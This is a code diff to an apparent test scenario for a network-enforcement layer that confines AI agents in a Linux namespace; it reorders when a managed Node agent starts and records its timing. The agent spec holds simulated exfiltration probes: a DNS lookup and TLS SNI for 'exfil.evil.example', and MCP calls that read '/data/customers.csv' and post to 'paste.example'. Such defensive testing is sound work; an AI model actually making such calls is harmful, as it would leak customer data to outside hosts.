@@ -270,6 +270,36 @@ export async function run(ctx: ScenarioContext): Promise<ScenarioResult> {
     );
 
     const nsenter = (argv: string[]): string[] => ['/usr/bin/nsenter', `--net=${ns!.path}`, ...argv];
+    // ---- DNS, TLS and MCP from one managed Node agent in the namespace: it starts now (a Node
+    // start takes many seconds under TCG) and runs beside the curl requests and probes below ----
+    const spec: NetnsAgentSpec = {
+      dns: [
+        { server: '8.8.8.8', name: 'api.github.com' },
+        { server: '9.9.9.9', name: 'exfil.evil.example' },
+      ],
+      tls: { address: `127.0.0.1:${tlsPeer.port}`, caPath: tlsPeer.caPath, snis: ['localhost', 'exfil.evil.example'] },
+      mcp: {
+        url: `http://127.0.0.1:${files.port}/mcp`,
+        calls: [
+          { tool: 'read_file', args: { path: '/data/customers.csv' } },
+          { tool: 'http_post', args: { url: 'https://paste.example', body: 'x' } },
+        ],
+      },
+    };
+    const t4 = Date.now();
+    const [nodeBin, ...nodeArgs] = nsenter([
+      probeBinary(false),
+      'cg',
+      nodeAgent.procs,
+      'exec',
+      process.execPath,
+      agentScript,
+      JSON.stringify(spec),
+    ]);
+    let agentDoneAt = 0;
+    const agentPending = exec(nodeBin!, nodeArgs, { timeout: 90_000 })
+      .catch((e: { stdout?: string; stderr?: string; message: string }) => ({ stdout: e.stdout ?? '', stderr: e.stderr ?? e.message }))
+      .finally(() => (agentDoneAt = Date.now()));
     const managed = (argv: string[]): string[] => nsenter([probeBinary(false), 'cg', agent!.procs, ...argv]);
     const inAgent = async (argv: string[]): Promise<{ stdout: string; stderr: string }> => {
       const [bin, ...rest] = managed(['exec', ...argv]);
@@ -329,39 +359,13 @@ export async function run(ctx: ScenarioContext): Promise<ScenarioResult> {
       JSON.stringify(http.map((e) => [e.action, e.decision, e.destination, e.spiffe_id, e.pid])),
     );
 
-    // ---- DNS, TLS and MCP from one managed Node agent in the namespace ----
-    const spec: NetnsAgentSpec = {
-      dns: [
-        { server: '8.8.8.8', name: 'api.github.com' },
-        { server: '9.9.9.9', name: 'exfil.evil.example' },
-      ],
-      tls: { address: `127.0.0.1:${tlsPeer.port}`, caPath: tlsPeer.caPath, snis: ['localhost', 'exfil.evil.example'] },
-      mcp: {
-        url: `http://127.0.0.1:${files.port}/mcp`,
-        calls: [
-          { tool: 'read_file', args: { path: '/data/customers.csv' } },
-          { tool: 'http_post', args: { url: 'https://paste.example', body: 'x' } },
-        ],
-      },
-    };
-    const t4 = Date.now();
-    const [nodeBin, ...nodeArgs] = nsenter([
-      probeBinary(false),
-      'cg',
-      nodeAgent.procs,
-      'exec',
-      process.execPath,
-      agentScript,
-      JSON.stringify(spec),
-    ]);
-    const agentRun = await exec(nodeBin!, nodeArgs, { timeout: 90_000 }).catch(
-      (e: { stdout?: string; stderr?: string; message: string }) => ({ stdout: e.stdout ?? '', stderr: e.stderr ?? e.message }),
-    );
-    numbers.nodeAgentMs = Date.now() - t4;
+    const agentRun = await agentPending;
+    numbers.nodeAgentMs = agentDoneAt - t4;
     let rep: NetnsAgentReport | undefined;
     try {
       rep = JSON.parse(agentRun.stdout.trim().split('\n').at(-1) ?? '') as NetnsAgentReport;
     } catch {}
+    if (rep) numbers.nodeAgentParts = JSON.stringify(rep.ms);
     c.expect(
       'the managed Node agent ran in the namespace (node allowlisted, JIT identity) and reported',
       rep !== undefined,
